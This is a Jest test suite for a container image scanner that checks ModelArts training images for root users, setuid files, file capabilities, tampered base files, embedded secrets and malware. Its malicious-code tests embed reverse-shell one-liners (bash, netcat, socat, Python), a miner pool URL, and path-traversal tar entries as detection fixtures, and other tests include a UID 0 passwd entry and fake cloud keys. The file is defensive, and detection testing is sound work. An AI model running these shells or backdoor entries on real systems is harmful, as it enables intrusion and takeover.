import { check, paths, rule } from '../__fixtures__/check';
import { baseLayers, onBase, type LayerSpec } from '../__fixtures__/image-builder';
import { capabilityValue } from '../__fixtures__/raw-tar';

const layer = (entries: LayerSpec['entries'], createdBy = '/bin/sh -c make-it') => ({ entries, createdBy });

describe('a clean image', () => {
  it('has no findings at all when built on the given base', async () => {
    const result = await check(
      onBase([layer([{ path: 'opt/app/train.py', content: 'print("hi")\n', uid: 1101 }])], { User: 'work', Cmd: ['python3', '/opt/app/train.py'] })
    );
    expect(result.findings).toEqual([]);
  });
});

describe('default-user', () => {
  const user = async (User: string | undefined) => rule(await check(onBase([], User === undefined ? {} : { User })), 'default-user');

  it('reads the config as Docker does: a later "user" key is the user, not the "User" before it', async () => {
    const spec = onBase([], { User: 'work' });
    const r = await check(spec, { tamperConfig: (c) => Object.assign(c.config as object, { user: 'root' }) });
    expect(rule(r, 'default-user').map((f) => f.message)).toEqual([expect.stringMatching(/root \(UID 0\)/)]);
    expect(r.facts.config.config?.User).toBe('root');
  });

  it.each(['work', '1101', 'work:work', '1101:1101', 'work:1101', '00000000000000001101', '1101:2147483647'])('accepts %s', async (u) => {
    expect(await user(u)).toEqual([]);
  });

  it.each([
    [undefined, /no default user/],
    ['', /no default user/],
    ['root', /root \(UID 0\)/],
    ['0', /root \(UID 0\)/],
    ['1000', /UID 1000/],
    ['ghost', /not a user in the image's \/etc\/passwd/],
    ['work:nogroup', /group "nogroup", which is not in/],
    // runc and iSulad refuse numeric users above 2^31 - 1 ("uids and gids must be in range 0-2147483647").
    ['2147483648', /USER "2147483648" is not a UID a container can run as \(container runtimes accept 0 to 2147483647\), so the container would not start/],
    ['99999999999999999999999', /USER "99999999999999999999999" is not a UID a container can run as/],
    ['1101:2147483648', /USER "1101:2147483648" names the GID 2147483648, which container runtimes refuse/]
  ])('rejects %p', async (u, message) => {
    const found = await user(u);
    expect(found).toHaveLength(1);
    expect(found[0].severity).toBe('error');
    expect(found[0].message).toMatch(message);
  });

  it('shortens a very long USER in its message instead of printing it whole', async () => {
    const long = 'x'.repeat(100_000);
    const [found] = await user(long);
    expect(found.message).toContain(`USER "${'x'.repeat(64)}... (100,000 characters)" is not a user`);
    expect(found.message.length).toBeLessThan(400);
    expect((await user('u'.repeat(64)))[0].message).toContain(`USER "${'u'.repeat(64)}" is not`);
  });

  // Docker's runtime (runc, and containerd for Kubernetes) resolves USER with libcontainer's
  // user package: each line trimmed, fields split at ":", a UID that is no number read as 0,
  // the first entry with the name winning.
  it.each([
    ['a line with blanks around it', ' work:x:0:0:root:/root:/bin/sh\t'],
    ['a line with fewer fields', 'work:x:0:0'],
    ['a UID that is no number', 'work:x:1101x:1101::/home/work:/bin/sh']
  ])('reads /etc/passwd as the container runtime does: %s, before the real entry, makes "work" root', async (_name, first) => {
    const passwd = `root:x:0:0::/root:/bin/sh\n${first}\nwork:x:1101:1101::/home/work:/bin/sh\n`;
    const found = rule(await check(onBase([layer([{ path: 'etc/passwd', content: passwd }])], { User: 'work' })), 'default-user');
    expect(found.map((f) => f.message)).toEqual([expect.stringMatching(/"work" is root \(UID 0\)/)]);
  });

  it('reads USER as the container runtime does: a signed number is a UID, blanks are part of a name', async () => {
    expect(await user('+1101')).toEqual([]);
    expect((await user(' 1101'))[0].message).toMatch(/USER " 1101" is not a user in the image's \/etc\/passwd/);
    expect((await user('-1'))[0].message).toMatch(/USER "-1" is not a UID a container can run as/);
  });

  it('resolves names through the final /etc/passwd and honours --expected-uid', async () => {
    const spec = onBase([layer([{ path: 'etc/passwd', content: 'root:x:0:0::/root:/bin/sh\nma-user:x:1000:100::/home/ma-user:/bin/sh\n' }])], {
      User: 'ma-user'
    });
    expect(rule(await check(spec, { settings: { expectedUid: 1000 } }), 'default-user')).toEqual([]);
    expect(rule(await check(spec), 'default-user')[0].message).toMatch(/UID 1000; ModelArts requires UID 1101/);
  });
});

describe('setuid-setgid', () => {
  it('reports a root-owned setuid file a custom layer added', async () => {
    const r = await check(onBase([layer([{ path: 'opt/tool', content: 'x', mode: 0o4755 }])]));
    expect(paths(r, 'setuid-setgid')).toEqual(['/opt/tool']);
    expect(rule(r, 'setuid-setgid')[0].layer?.index).toBe(1);
  });

  it('reports a setgid file too, but not one owned by another user', async () => {
    const r = await check(
      onBase([
        layer([
          { path: 'opt/g', content: 'x', mode: 0o2755 },
          { path: 'opt/u', content: 'x', mode: 0o4755, uid: 1101 }
        ])
      ])
    );
    expect(paths(r, 'setuid-setgid')).toEqual(['/opt/g']);
  });

  it('does not report a file whose directory a later layer replaced, even when a layer after that re-creates the directory', async () => {
    // overlayfs stops merging a directory at a lower layer's non-directory: /opt/x/tool is gone.
    const r = await check(
      onBase([
        layer([
          { path: 'opt/x', type: 'dir' },
          { path: 'opt/x/tool', content: 'x', mode: 0o4755 }
        ]),
        layer([{ path: 'opt/x', content: 'now a file' }]),
        layer([
          { path: 'opt/x', type: 'dir' },
          { path: 'opt/x/new', content: 'n' }
        ])
      ])
    );
    expect(paths(r, 'setuid-setgid')).toEqual([]);
    expect(r.facts.fs.get('/opt/x/new')).toBeDefined();
  });

  it('does not report a file whose directory a later layer replaced with a hard link', async () => {
    const r = await check(
      onBase([
        layer([
          { path: 'opt/y', type: 'dir' },
          { path: 'opt/y/tool', content: 'x', mode: 0o4755 },
          { path: 'opt/plain', content: 'p' }
        ]),
        layer([{ path: 'opt/y', type: 'hardlink', link: 'opt/plain' }])
      ])
    );
    expect(paths(r, 'setuid-setgid')).toEqual([]);
  });

  it('reports a hard link to a setuid file of the base', async () => {
    // Docker's tar writer gives a hard link the mode of its file.
    const r = await check(onBase([layer([{ path: 'opt/su2', type: 'hardlink', link: 'usr/bin/su', mode: 0o4755 }])]));
    expect(paths(r, 'setuid-setgid')).toEqual(['/opt/su2']);
    expect(rule(r, 'setuid-setgid')[0].message).toMatch(/hard link to \/usr\/bin\/su/);
  });

  it('takes the mode and owner of a hard linked file from the last hard link entry, as Docker applies them', async () => {
    // Docker chmods and chowns the shared file to each hard link entry's header.
    const made = await check(onBase([layer([{ path: 'opt/py', type: 'hardlink', link: 'usr/bin/python3', mode: 0o4755 }])]));
    expect(paths(made, 'setuid-setgid').sort()).toEqual(['/opt/py', '/usr/bin/python3']);
    const cleared = await check(onBase([layer([{ path: 'opt/su2', type: 'hardlink', link: 'usr/bin/su', mode: 0o755 }])]));
    expect(paths(cleared, 'setuid-setgid')).toEqual([]);
    // ... which is the base's file too, under its other name.
    expect(rule(made, 'protected-path').map((f) => [f.path, f.layer?.index])).toEqual([['/usr/bin/python3', 1]]);
    expect(rule(made, 'protected-path')[0].message).toMatch(/mode/);
  });

  it('reports a chmod-only change of a base file', async () => {
    const r = await check(onBase([layer([{ path: 'bin/ls', content: 'ls binary', mode: 0o4755 }])]));
    expect(paths(r, 'setuid-setgid')).toEqual(['/bin/ls']);
  });

  it('does not report setuid files inherited from the base, even when rewritten identically', async () => {
    expect(rule(await check(onBase([])), 'setuid-setgid')).toEqual([]);
    expect(rule(await check(onBase([layer([{ path: 'usr/bin/su', content: 'su binary', mode: 0o4755 }])])), 'setuid-setgid')).toEqual([]);
  });
});

describe('file-capabilities', () => {
  const CHOWN = 0;
  const SETUID = 7;
  const NET_RAW = 13;
  const BPF = 39;

  it('warns about a file a custom layer gave capabilities, naming them as getcap does', async () => {
    const r = await check(
      onBase([
        layer([{ path: 'opt/py', content: 'python', capability: capabilityValue([SETUID, NET_RAW]) }], '/bin/sh -c setcap cap_setuid,cap_net_raw+ep /opt/py')
      ])
    );
    const found = rule(r, 'file-capabilities');
    expect(found.map((f) => [f.path, f.severity, f.layer?.index])).toEqual([['/opt/py', 'warning', 1]]);
    expect(found[0].message).toMatch(
      /^\/opt\/py has the file capabilities cap_setuid,cap_net_raw=ep: whoever runs it gets them.*; it was added\. Remove them \(setcap -r \/opt\/py\)/
    );
    // A warning: ModelArts does not name capabilities, and the image passes at the default fail-on.
    expect(r.findings.filter((f) => f.severity === 'error')).toEqual([]);
  });

  it('reads both 32-bit words and the inheritable set, and says when the effective flag is off', async () => {
    const r = await check(onBase([layer([{ path: 'opt/tool', content: 't', capability: capabilityValue([BPF], false, [CHOWN]) }])]));
    expect(rule(r, 'file-capabilities')[0].message).toMatch(/capabilities cap_bpf=p cap_chown=i:/);
  });

  it('does not report capabilities inherited from the base, even rewritten identically, nor an empty set', async () => {
    const base = baseLayers();
    base[0].entries.push({ path: 'usr/bin/ping', content: 'ping', mode: 0o755, capability: capabilityValue([NET_RAW]) });
    const withPing = (custom: LayerSpec[]) => check({ ...onBase(custom), layers: [...base, ...custom] }, { baseLayers: base });
    expect(rule(await withPing([]), 'file-capabilities')).toEqual([]);
    const rewritten = await withPing([layer([{ path: 'usr/bin/ping', content: 'ping', mode: 0o755, capability: capabilityValue([NET_RAW]) }])]);
    expect(rule(rewritten, 'file-capabilities')).toEqual([]);
    expect(rule(rewritten, 'protected-path')).toEqual([]);
    expect(rule(await check(onBase([layer([{ path: 'opt/none', content: 'n', capability: capabilityValue([], false) }])])), 'file-capabilities')).toEqual([]);
  });

  it('reports capabilities given to a base file as a change of that file too', async () => {
    const r = await check(onBase([layer([{ path: 'usr/bin/python3', content: 'python', mode: 0o755, capability: capabilityValue([SETUID]) }])]));
    expect(paths(r, 'file-capabilities')).toEqual(['/usr/bin/python3']);
    expect(rule(r, 'file-capabilities')[0].message).toMatch(/it was changed from the base image/);
    expect(rule(r, 'protected-path').map((f) => f.message)).toEqual([expect.stringMatching(/file capabilities none -> cap_setuid=ep/)]);
  });

  it('gives the capabilities of a hard link entry to the file it links to, as Docker sets them on the shared file', async () => {
    const r = await check(onBase([layer([{ path: 'opt/py', type: 'hardlink', link: 'usr/bin/python3', mode: 0o755, capability: capabilityValue([SETUID]) }])]));
    expect(paths(r, 'file-capabilities').sort()).toEqual(['/opt/py', '/usr/bin/python3']);
    expect(rule(r, 'protected-path').map((f) => f.path)).toEqual(['/usr/bin/python3']);
    // A later hard link entry without the attribute leaves it on the file.
    const kept = await check(
      onBase([
        layer([{ path: 'opt/py', type: 'hardlink', link: 'usr/bin/python3', mode: 0o755, capability: capabilityValue([SETUID]) }]),
        layer([{ path: 'opt/py2', type: 'hardlink', link: 'usr/bin/python3', mode: 0o755 }])
      ])
    );
    expect(paths(kept, 'file-capabilities').sort()).toEqual(['/opt/py', '/opt/py2', '/usr/bin/python3']);
  });

  it('reports an attribute Linux would refuse', async () => {
    const r = await check(onBase([layer([{ path: 'opt/odd', content: 'o', capability: Buffer.from([1, 0, 0, 2, 0x80]) }])]));
    expect(rule(r, 'file-capabilities')[0].message).toMatch(/security\.capability attribute that Linux refuses/);
  });
});

describe('protected-path', () => {
  it('reports a modified base file with the layer at fault', async () => {
    const r = await check(onBase([layer([{ path: 'usr/lib/libc.so', content: 'patched', mode: 0o755 }], '/bin/sh -c patch-libc')]));
    expect(paths(r, 'protected-path')).toEqual(['/usr/lib/libc.so']);
    expect(rule(r, 'protected-path')[0].instruction).toBe('/bin/sh -c patch-libc');
  });

  it('reports mode, owner and symlink target changes', async () => {
    const r = await check(
      onBase([
        layer([
          { path: 'usr/bin/python3', content: 'python', mode: 0o777 },
          { path: 'bin/sh', content: 'shell binary', mode: 0o755, uid: 1101 }
        ])
      ])
    );
    expect(paths(r, 'protected-path').sort()).toEqual(['/bin/sh', '/usr/bin/python3']);
  });

  it('accepts a byte-identical rewrite and a change that a later layer restores', async () => {
    expect(rule(await check(onBase([layer([{ path: 'usr/lib/libc.so', content: 'libc', mode: 0o755 }])])), 'protected-path')).toEqual([]);
    const restored = onBase([
      layer([{ path: 'usr/lib/libc.so', content: 'evil', mode: 0o755 }]),
      layer([{ path: 'usr/lib/libc.so', content: 'libc', mode: 0o755 }])
    ]);
    expect(rule(await check(restored), 'protected-path')).toEqual([]);
  });

  // Libraries from 16 KiB on are compared by a keyed GMAC tag, smaller files by sha256
  // (content-tag.ts): a library read whole from one chunk and one read across many chunks.
  it.each([
    ['in one chunk', 1 << 20],
    ['across chunks', 7919]
  ])('tells a same-size change of a big base library from a byte-identical rewrite, %s', async (_how, chunk) => {
    const lib = Buffer.alloc(100_000, 'cuda library ');
    const base = [...baseLayers(), layer([{ path: 'usr/lib/libcudart.so', content: lib, mode: 0o755 }])];
    const rewritten = async (content: Buffer) =>
      paths(
        await check({ ...onBase([]), layers: [...base, layer([{ path: 'usr/lib/libcudart.so', content, mode: 0o755 }])] }, { baseLayers: base, chunk }),
        'protected-path'
      );
    expect(await rewritten(Buffer.from(lib))).toEqual([]);
    for (const at of [0, 50_000, lib.length - 1]) {
      const changed = Buffer.from(lib);
      changed[at] ^= 1;
      expect(await rewritten(changed)).toEqual(['/usr/lib/libcudart.so']);
    }
  });

  it('reports a deleted tree once, with the count', async () => {
    const r = await check(onBase([layer([{ path: 'usr/share/doc', type: 'whiteout' }], '/bin/sh -c rm -rf /usr/share/doc')]));
    const found = rule(r, 'protected-path');
    expect(found).toHaveLength(1);
    expect(found[0].path).toBe('/usr/share/doc');
    expect(found[0].message).toMatch(/2 base-image paths under \/usr\/share\/doc were deleted/);
    expect(found[0].layer?.index).toBe(1);
  });

  it('reports files hidden by an opaque directory', async () => {
    const r = await check(
      onBase([
        layer([
          { path: 'usr/share/doc', type: 'dir' },
          { path: 'usr/share/doc', type: 'opaque' },
          { path: 'usr/share/doc/new', content: 'n' }
        ])
      ])
    );
    expect(rule(r, 'protected-path')[0].message).toMatch(/hidden/);
  });

  it('allows new files in protected directories', async () => {
    const r = await check(onBase([layer([{ path: 'usr/local/bin/mytool', content: 'tool', mode: 0o755 }])]));
    expect(rule(r, 'protected-path')).toEqual([]);
  });
});

describe('protected-etc', () => {
  it('reports changed, added and deleted important files, and ignores others', async () => {
    const r = await check(
      onBase([
        layer([
          { path: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\nwork:x:1101:1101:work:/home/work:/bin/sh\nevil:x:0:0::/:/bin/sh\n' },
          { path: 'etc/sudoers.d/work', content: 'work ALL=(ALL) NOPASSWD:ALL\n' },
          { path: 'etc/hosts', type: 'whiteout' },
          { path: 'etc/pip.conf', content: '[global]\n' }
        ])
      ])
    );
    expect(paths(r, 'protected-etc').sort()).toEqual(['/etc/hosts', '/etc/passwd', '/etc/sudoers.d/work']);
  });

  it('follows the configured list: globs outside /etc, or none at all', async () => {
    const spec = onBase([
      layer([
        { path: 'etc/passwd', content: 'root:x:0:0::/:/bin/sh\n' },
        { path: 'opt/policy/rules.conf', content: 'x' }
      ])
    ]);
    const custom = await check(spec, { settings: { protectedEtc: ['/etc/passwd', '/opt/policy/**'] } });
    expect(paths(custom, 'protected-etc').sort()).toEqual(['/etc/passwd', '/opt/policy/rules.conf']);
    expect(rule(await check(spec, { settings: { protectedEtc: [] } }), 'protected-etc')).toEqual([]);
  });
});

describe('modelarts-tools', () => {
  it('reports a changed or deleted tool and accepts untouched ones', async () => {
    const r = await check(
      onBase([
        layer([
          { path: 'home/work/run_train.sh', content: '#!/bin/bash\necho mine\n', mode: 0o755, uid: 1101, gid: 1101 },
          { path: 'home/work/utils.sh', type: 'whiteout' }
        ])
      ])
    );
    expect(paths(r, 'modelarts-tools').sort()).toEqual(['/home/work/run_train.sh', '/home/work/utils.sh']);
    expect(rule(await check(onBase([])), 'modelarts-tools')).toEqual([]);
  });
});

describe('image-size', () => {
  it('reports an image over the limit with its largest layers and files', async () => {
    const r = await check(onBase([layer([{ path: 'opt/model.bin', content: Buffer.alloc(40000, 7) }], '/bin/sh -c download-weights')]), {
      settings: { maxSize: 20000 }
    });
    const found = rule(r, 'image-size');
    expect(found).toHaveLength(1);
    expect(found[0].message).toMatch(/over the 20\.0 kB limit/);
    expect(found[0].message).toMatch(/\/opt\/model\.bin 40\.0 kB/);
    expect(rule(await check(onBase([]), { settings: { maxSize: 10_000_000 } }), 'image-size')).toEqual([]);
  });
});

describe('base-image', () => {
  it.each([
    [{ os: 'windows', architecture: 'amd64' }, /config says its OS is "windows"; ModelArts base images, and the nodes that run training jobs, are Linux/],
    [{ os: 'linux', architecture: 's390x' }, /built for the "s390x" CPU architecture; ModelArts base images are amd64 \(x86-64\) or arm64/]
  ])('reports an image for a platform ModelArts does not run (%p), even on the right base layers', async (platform, message) => {
    const found = rule(await check(onBase([layer([{ path: 'opt/app.py', content: 'x' }])]), { platform }), 'base-image');
    expect(found).toHaveLength(1);
    expect(found[0].severity).toBe('error');
    expect(found[0].message).toMatch(message);
  });

  it("cuts a crafted config's platform value in its message instead of quoting it whole", async () => {
    const [found] = rule(await check(onBase([]), { platform: { os: 'x'.repeat(100_000), architecture: 'amd64' } }), 'base-image');
    expect(found.message).toMatch(/OS is "x{64}\.\.\. \(100,000 characters\)"; ModelArts/);
    expect(found.message.length).toBeLessThan(400);
  });

  it('accepts Linux images for amd64 and arm64, and a config that names no platform', async () => {
    const spec = onBase([layer([{ path: 'opt/app.py', content: 'x' }])]);
    expect(rule(await check(spec, { platform: { os: 'linux', architecture: 'arm64' } }), 'base-image')).toEqual([]);
    // Spellings containerd normalizes to amd64 and arm64 (and a capitalized OS) are the same platforms.
    for (const platform of [
      { os: 'Linux', architecture: 'x86_64' },
      { os: 'linux', architecture: 'aarch64' }
    ]) {
      expect(rule(await check(spec, { platform }), 'base-image')).toEqual([]);
    }
    const unnamed = (config: Record<string, unknown>) => {
      delete config.os;
      delete config.architecture;
    };
    expect(rule(await check(spec, { tamperConfig: unnamed }), 'base-image')).toEqual([]);
  });

  it('reports an image not built on the given base', async () => {
    const other = { layers: [layer([{ path: 'bin/sh', content: 'other' }])], config: { User: '1101' } };
    const found = rule(await check(other), 'base-image');
    expect(found).toHaveLength(1);
    expect(found[0].severity).toBe('error');
  });

  it('takes the layers the image shares with the given base as base layers, even when the base is not a prefix', async () => {
    // Built on another version of the base: the OS layer is the same, the next one differs. The
    // shared layer is the base's byte for byte (same diff_id): its files are not the image's doing.
    const v2 = { createdBy: '/bin/sh -c install-v2', entries: [{ path: 'opt/v2', content: 'two' }] };
    const r = await check(onBase([layer([{ path: 'opt/app.py', content: 'x' }])]), { baseLayers: [...baseLayers(), v2] });
    expect(rule(r, 'base-image').map((f) => f.message)).toEqual([expect.stringMatching(/its layer 2 differs from the base image's \(the base has 2 layers\)/)]);
    expect(r.facts.base).toMatchObject({ matches: false, layerCount: 1 });
    expect(r.findings.filter((f) => f.rule !== 'base-image')).toEqual([]);
    // An image that is the base's first layers alone has no layer that differs: it has too few.
    const short = await check(onBase([]), { baseLayers: [...baseLayers(), v2] });
    expect(rule(short, 'base-image').map((f) => f.message)).toEqual([
      expect.stringMatching(/it has 1 layer, the base image 2, and they are the base's first ones/)
    ]);
  });

  it('warns without a base and guesses the boundary from the history', async () => {
    const r = await check(onBase([layer([{ path: 'opt/x', content: 'x', mode: 0o4755 }])]), { withBase: false });
    const found = rule(r, 'base-image');
    expect(found).toHaveLength(1);
    expect(found[0].severity).toBe('warning');
    expect(found[0].message).toMatch(/the first layer was taken as the base, guessed/);
    expect(r.facts.base.guessed).toBe(true);
    expect(paths(r, 'setuid-setgid')).toEqual(['/opt/x']); // the base's own su is not reported
  });
});

describe('log-stdout and offline-deps', () => {
  const script = (text: string) => layer([{ path: 'opt/start.sh', content: text, mode: 0o755 }], '/bin/sh -c #(nop) COPY file:abc in /opt/start.sh ');

  it('reads the start-up command and the scripts it starts', async () => {
    const r = await check(
      onBase(
        [
          script(
            '#!/bin/bash\npip install torch==2.1\npython train.py > /cache/train.log 2>&1\npython eval.py | tee eval.txt\nnohup python serve.py &\necho ok\n'
          )
        ],
        {
          User: 'work',
          Cmd: ['/bin/sh', '-c', 'bash /opt/start.sh']
        }
      )
    );
    const logs = rule(r, 'log-stdout').map((f) => f.message);
    expect(logs).toHaveLength(3);
    expect(logs[0]).toMatch(/\/opt\/start\.sh:3: output is redirected to the file \/cache\/train\.log/);
    expect(logs[1]).toMatch(/tee copies the output into the file eval\.txt/);
    expect(logs[2]).toMatch(/nohup/);
    const deps = rule(r, 'offline-deps');
    expect(deps).toHaveLength(1);
    expect(deps[0].message).toMatch(/\/opt\/start\.sh:2 installs Python packages/);
    expect(deps.every((f) => f.severity === 'warning')).toBe(true);
  });

  it('accepts logging to stdout and offline installs', async () => {
    const r = await check(
      onBase([script('#!/bin/sh\npip install --no-index --find-links /wheels x\npython train.py 2>&1\ncommand -v nvidia-smi > /dev/null\n')], {
        User: 'work',
        Entrypoint: ['/opt/start.sh']
      })
    );
    expect(rule(r, 'log-stdout')).toEqual([]);
    expect(rule(r, 'offline-deps')).toEqual([]);
  });

  it('quotes a long start-up line cut, saying how long it is', async () => {
    const padding = 'x'.repeat(10_000);
    const r = await check(
      onBase([script(`#!/bin/sh\npython train.py --tag ${padding} > /cache/train.log\npip install torch ${padding}\n`)], {
        User: 'work',
        Entrypoint: ['/opt/start.sh']
      })
    );
    const [log] = rule(r, 'log-stdout');
    const [dep] = rule(r, 'offline-deps');
    expect(log.message).toMatch(/\("python train\.py --tag x{138}\.\.\. \(10,041 characters\)"\)/);
    expect(dep.message).toMatch(/\("pip install torch x{142}\.\.\. \(10,018 characters\)"\)/);
  });

  it('flags downloads in the command itself', async () => {
    const r = await check(
      onBase([], { User: 'work', Cmd: ['/bin/sh', '-c', 'git clone https://example.com/x.git && curl -sL https://example.com/get.sh | bash'] })
    );
    expect(rule(r, 'offline-deps')).toHaveLength(1);
  });
});

describe('malicious-code', () => {
  const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

  it.each([
    ['EICAR test file', EICAR],
    ['bash reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
    ['socat', "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr"],
    [
      'python one-liner',
      'python -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''
    ],
    ['miner pool', '{"url": "stratum+tcp://pool.example.com:3333"}'],
    ['miner config', '{"donate-level": 1, "cpu": true}']
  ])('finds %s in a custom layer', async (_name, content) => {
    const r = await check(onBase([layer([{ path: 'opt/payload', content: `header\n${content}\nfooter\n` }])]));
    expect(paths(r, 'malicious-code')).toEqual(['/opt/payload']);
  });

  it('ignores the same content in the base and benign mentions', async () => {
    const spec = onBase([layer([{ path: 'opt/doc.txt', content: 'Bash can open /dev/tcp/host/port connections.\nuse Socket; # docs\n' }])]);
    spec.layers[0].entries.push({ path: 'usr/share/eicar.txt', content: EICAR });
    expect(rule(await check(spec, { withBase: false }), 'malicious-code')).toEqual([]);
  });

  it('finds a pattern split across the scanner window and the reader chunks', async () => {
    for (const offset of [256 * 1024 - 10, 256 * 1024 - 512 - 3, 7919 - 20]) {
      const content = Buffer.concat([Buffer.alloc(offset, 0x41), Buffer.from(EICAR), Buffer.alloc(300 * 1024, 0x42)]);
      const r = await check(onBase([layer([{ path: 'opt/big.bin', content }])]));
      expect(paths(r, 'malicious-code')).toEqual(['/opt/big.bin']);
    }
  });

  it('reports entries that climb out of the root or write through a symlink, and applies neither', async () => {
    const r = await check(
      onBase([
        layer([{ path: 'opt/etc-link', type: 'symlink', link: '/etc' }]),
        layer([
          { path: 'opt/etc-link/shadow', content: 'root::0:0' },
          { path: 'opt/../../etc/evil', content: 'x' }
        ])
      ])
    );
    expect(paths(r, 'malicious-code').sort()).toEqual(['/opt/etc-link/shadow', 'opt/../../etc/evil']);
    expect(r.facts.fs.get('/etc/shadow')).toBeUndefined();
    expect(r.facts.fs.get('/etc/evil')).toBeUndefined();
  });

  it('sees a symlink written earlier in the same layer, between entries of one directory', async () => {
    const r = await check(
      onBase([
        layer([
          { path: 'opt/a.txt', content: 'a' },
          { path: 'opt/lib', type: 'symlink', link: '/usr/lib' },
          { path: 'opt/lib/evil.so', content: 'x' },
          { path: 'opt/b.txt', content: 'b' }
        ])
      ])
    );
    expect(paths(r, 'malicious-code')).toEqual(['/opt/lib/evil.so']);
    expect(r.facts.fs.get('/usr/lib/evil.so')).toBeUndefined();
    expect(r.facts.fs.get('/opt/b.txt')?.size).toBe(1);
  });
});

describe('secrets', () => {
  const AWS = 'AKIAZ3MSJV4WWXXJ6ZQF';
  const SK = 'Qh7sKd93nFh27dkLs0Pq8ZrT5vXwYb1cNm4oEjGa';

  it('finds keys in files, credential files, ENV and history, and never prints them', async () => {
    const r = await check(
      onBase(
        [
          layer(
            [
              {
                path: 'root/.ssh/id_rsa',
                content: `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW'}\n-----END OPENSSH PRIVATE KEY-----\n`
              },
              { path: 'opt/app/settings.py', content: `AWS_KEY = "${AWS}"\n` },
              { path: 'home/work/.docker/config.json', content: '{"auths":{"swr.cn-north-4.myhuaweicloud.com":{"auth":"Y24tbm9ydGgtNEBBSzpzZWNyZXQ="}}}' },
              { path: 'home/work/.obsutilconfig', content: `endpoint=obs.example.com\nak=ABCDEFGHIJKLMNOPQRST\nsk=${SK}\n` }
            ],
            `|1 HUAWEICLOUD_SDK_SK=${SK} /bin/sh -c ./setup.sh`
          )
        ],
        { User: 'work', Env: [`OBS_SK=${SK}`, 'PATH=/usr/bin'] }
      )
    );
    const found = rule(r, 'secrets');
    expect(
      found
        .map((f) => f.path)
        .filter(Boolean)
        .sort()
    ).toEqual(['/home/work/.docker/config.json', '/home/work/.obsutilconfig', '/opt/app/settings.py', '/root/.ssh/id_rsa']);
    expect(found.some((f) => /environment sets OBS_SK=/.test(f.message))).toBe(true);
    expect(found.some((f) => /Build step \d+ recorded HUAWEICLOUD_SDK_SK=/.test(f.message))).toBe(true);
    const text = JSON.stringify(r.findings);
    expect(text).not.toContain(SK);
    expect(text).not.toContain(AWS);
    expect(text).not.toContain('Y24tbm9ydGgtNEBBSzpzZWNyZXQ=');
  });

  it('finds a Huawei Cloud secret key however its assignment is spaced or quoted', async () => {
    // The last one is Latin-1 text with a no-break space (one byte, 0xA0).
    const forms = [`OBS_SK=${SK}`, `OBS_SK = "${SK}"`, `"OBS_SK": "${SK}"`, `HUAWEICLOUD_SDK_SK\t= '${SK}'`, `sdk_SK:${SK}`, `MY_SK\u00a0= ${SK}`];
    const files = forms.map((text, i) => ({ path: `opt/app/conf${i}.py`, content: Buffer.from(`# settings\n${text}\n`, 'latin1') }));
    const r = await check(onBase([layer([...files, { path: 'opt/app/skip.py', content: `_SKIP_LIST = "${SK}"\n` }])], { User: 'work' }));
    expect(paths(r, 'secrets').sort()).toEqual(files.map((f) => '/' + f.path));
  });

  it('reports each detector once per file, whatever else the file matched first', async () => {
    const content = `nc -e /bin/sh 10.0.0.1 4444\nKEY=${AWS}\nnc -e /bin/bash 10.0.0.2 4444\nOBS_SK=${SK}\nKEY2=AKIAQ3MSJV4WWXXJ6ZQG\n`;
    const r = await check(onBase([layer([{ path: 'opt/setup.sh', content }])], { User: 'work' }));
    expect(rule(r, 'malicious-code').map((f) => f.path)).toEqual(['/opt/setup.sh']);
    expect(rule(r, 'secrets').map((f) => f.message.match(/AWS access key|Huawei Cloud secret key/)?.[0])).toEqual([
      'AWS access key',
      'Huawei Cloud secret key'
    ]);
  });

  it('ignores documentation examples and placeholders', async () => {
    const r = await check(
      onBase([layer([{ path: 'opt/README', content: 'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n' }])], {
        User: 'work',
        Env: ['OBS_SK=${OBS_SK}', 'PASSWORD=']
      })
    );
    expect(rule(r, 'secrets')).toEqual([]);
  });
});

describe('severities and waivers', () => {
  const spec = onBase([layer([{ path: 'opt/tool', content: 'x', mode: 0o4755 }])]);

  it('turns a rule off or changes its severity', async () => {
    expect(rule(await check(spec, { settings: { severities: { 'setuid-setgid': 'off' } } }), 'setuid-setgid')).toEqual([]);
    expect(rule(await check(spec, { settings: { severities: { 'setuid-setgid': 'notice' } } }), 'setuid-setgid')[0].severity).toBe('notice');
  });

  it('waives a finding by rule and path glob until the waiver expires', async () => {
    const waived = rule(
      await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/opt/**', reason: 'vendor tool', expires: '2026-12-31' }] } }),
      'setuid-setgid'
    );
    expect(waived[0].waived).toEqual({ reason: 'vendor tool', expires: '2026-12-31' });
    const expired = await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/opt/**', reason: 'vendor tool', expires: '2026-01-01' }] } });
    const found = rule(expired, 'setuid-setgid');
    expect(found.find((f) => f.severity === 'error')?.waived).toBeUndefined();
    expect(found.find((f) => f.severity === 'notice')?.message).toMatch(/expired on 2026-01-01/);
    const otherPath = rule(await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/usr/**', reason: 'x' }] } }), 'setuid-setgid');
    expect(otherPath[0].waived).toBeUndefined();
  });
});
